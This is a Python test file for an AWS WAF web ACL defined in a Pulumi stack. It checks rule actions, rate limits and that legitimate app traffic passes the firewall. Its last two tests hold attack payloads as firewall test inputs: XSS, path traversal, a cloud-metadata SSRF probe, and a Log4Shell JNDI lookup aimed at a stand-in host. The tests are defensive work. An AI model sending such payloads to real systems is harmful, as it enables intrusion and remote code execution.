"""The stack's own web ACL: valid for WAF, on where configured, and blind to valid traffic."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest
from botocore.validate import ParamValidator
from hypothesis import HealthCheck, given, settings

from components.firewall import BODY_RULES_COUNTED, COMMON_RULE_SET
from deploy.check import check_walkthrough
from devkit.asgi import serving
from tests.components.conftest import Stack, input_shape
from tests.components.waf_rules import Request, matches
from tests.corpus import objects, to_json

if TYPE_CHECKING:
    from starlette.types import ASGIApp, Receive, Scope, Send

    from service.settings import Settings

WEB_ACL = "aws:wafv2/webAcl:WebAcl"


def _botocore(value: Any, key: str = "") -> Any:
    """Pulumi's camelCase state as the WAF API spells it."""
    if isinstance(value, dict):
        return {_pascal(k): _botocore(v, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_botocore(v) for v in value]
    if isinstance(value, float) and value.is_integer():
        return int(value)
    return value


def _pascal(key: str) -> str:
    key = re.sub(r"^cloudwatch", "CloudWatch", key)
    return key[0].upper() + key[1:]


def test_the_firewall_is_where_configured_and_a_given_acl_wins(stack: Stack) -> None:
    acls = stack.all(WEB_ACL)
    associations = stack.all("aws:wafv2/webAclAssociation:WebAclAssociation")
    given_arn = stack.setting("wafWebAclArn")
    if given_arn:
        assert acls == []
        assert [a["state"]["webAclArn"] for a in associations] == [given_arn]
    elif stack.setting("firewall") == "true":
        (acl,) = acls
        assert [a["state"]["webAclArn"] for a in associations] == [acl["state"]["arn"]]
    else:
        assert acls == [] and associations == []
    if stack.stack == "prod":
        assert associations, "prod has a firewall"


def with_own_acl(stacks: dict[str, Stack]) -> list[Stack]:
    # Each region of a stack has its own: the first's stands for the others
    # (tests/components/test_global_api.py holds them equal).
    chosen = [s.first_region() for s in stacks.values() if s.all(WEB_ACL)]
    assert {s.variant for s in chosen} >= {"prod", "dev-firewall-count"}
    return chosen


def test_the_web_acl_is_one_wafv2_accepts(stacks: dict[str, Stack]) -> None:
    for stack in with_own_acl(stacks):
        check_wafv2_accepts(stack)


def check_wafv2_accepts(stack: Stack) -> None:
    state = stack.one(WEB_ACL)["state"]
    request = {
        "Name": state["name"],
        "Scope": state["scope"],
        "DefaultAction": _botocore(state["defaultAction"]),
        "Rules": _botocore(state["rules"]),
        "VisibilityConfig": _botocore(state["visibilityConfig"]),
    }
    report = ParamValidator().validate(request, input_shape("wafv2", "CreateWebACL"))
    assert not report.has_errors(), report.generate_report()
    assert state["scope"] == "REGIONAL" and state["defaultAction"] == {"allow": {}}


def test_rules_block_unless_count_only_and_the_rate_limit_is_configured(
    stacks: dict[str, Stack],
) -> None:
    for stack in with_own_acl(stacks):
        check_actions(stack)


def check_actions(stack: Stack) -> None:
    rules = {r["name"]: r for r in stack.one(WEB_ACL)["state"]["rules"]}
    count_only = stack.setting("firewallCountOnly") == "true"
    rate = rules["rate-per-ip"]
    assert rate["statement"]["rateBasedStatement"]["limit"] == int(
        stack.setting("firewallRateLimit")
    )
    assert rate["statement"]["rateBasedStatement"]["aggregateKeyType"] == "IP"
    assert rate["action"] == ({"count": {}} if count_only else {"block": {}})
    for group in ("AWSManagedRulesCommonRuleSet", "AWSManagedRulesKnownBadInputsRuleSet"):
        assert rules[group]["overrideAction"] == ({"count": {}} if count_only else {"none": {}})


def counted(stack: Stack) -> set[tuple[str, str]]:
    """The managed rules the stack's web ACL overrides to count."""
    out = set()
    for rule in stack.one(WEB_ACL)["state"]["rules"]:
        group = rule["statement"].get("managedRuleGroupStatement")
        for override in (group or {}).get("ruleActionOverrides", []):
            assert override["actionToUse"] == {"count": {}}
            out.add((group["name"], override["name"]))
    return out


def blocked(stack: Stack, request: Request) -> set[tuple[str, str]]:
    return matches(request) - counted(stack)


class Recorder:
    """Keeps every request that passes, as the load balancer's firewall would see it."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app
        self.requests: list[Request] = []

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        chunks: list[bytes] = []

        async def recording() -> Any:
            message = await receive()
            chunks.append(message.get("body", b""))
            return message

        await self.app(scope, recording, send)
        self.requests.append(
            Request(
                scope["method"],
                scope["raw_path"].decode("latin-1"),
                scope["query_string"].decode("latin-1"),
                {k.decode(): v.decode("latin-1") for k, v in scope["headers"]},
                b"".join(chunks),
            )
        )


@pytest.fixture(scope="module")
def walkthrough(settings: Settings) -> Iterator[list[Request]]:
    from delete_fn.handler import handler
    from local.router import LocalAlb
    from service.app import create_app

    recorder = Recorder(LocalAlb(create_app(settings), handler))
    with serving(recorder) as url:
        # A local origin: plain http, as a stack without a certificate serves.
        check_walkthrough(url, patience_s=30, plain_http=True)
    yield recorder.requests


def test_the_walkthrough_passes_the_firewall(
    stacks: dict[str, Stack], walkthrough: list[Request]
) -> None:
    prod = stacks["prod"]
    assert len(walkthrough) >= 6
    for request in walkthrough:
        assert blocked(prod, request) == set(), request


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(body=objects)
def test_items_of_the_round_trip_corpus_pass_the_firewall(
    stacks: dict[str, Stack], body: Any
) -> None:
    request = Request(
        "POST",
        "/picus/put",
        headers={"user-agent": "client/1.0", "content-type": "application/json"},
        body=to_json(body).encode(),
    )
    assert blocked(stacks["prod"], request) == set()


def test_large_items_and_markup_in_items_are_counted_not_blocked(
    stacks: dict[str, Stack],
) -> None:
    prod = stacks["prod"]
    assert {(COMMON_RULE_SET, rule) for rule in BODY_RULES_COUNTED} <= counted(prod)
    for payload in (
        '{"page": "' + "x" * 300_000 + '"}',
        '{"html": "<script>alert(1)</script>", "url": "http://10.0.0.1/a", "p": "../x"}',
        '{"probe": "http://169.254.169.254/latest"}',
    ):
        request = Request("POST", "/picus/put", headers={"user-agent": "c"}, body=payload.encode())
        assert matches(request), "the documented criteria would match"
        assert blocked(prod, request) == set()


def test_known_bad_inputs_are_still_blocked(stacks: dict[str, Stack]) -> None:
    prod = stacks["prod"]
    attack = Request(
        "POST", "/picus/put", headers={"user-agent": "c"}, body=b'{"x": "${jndi:ldap://e/a}"}'
    )
    assert blocked(prod, attack) == {("AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_BODY")}
    assert blocked(prod, Request("GET", "/picus/list")) == {
        ("AWSManagedRulesCommonRuleSet", "NoUserAgent_HEADER")
    }
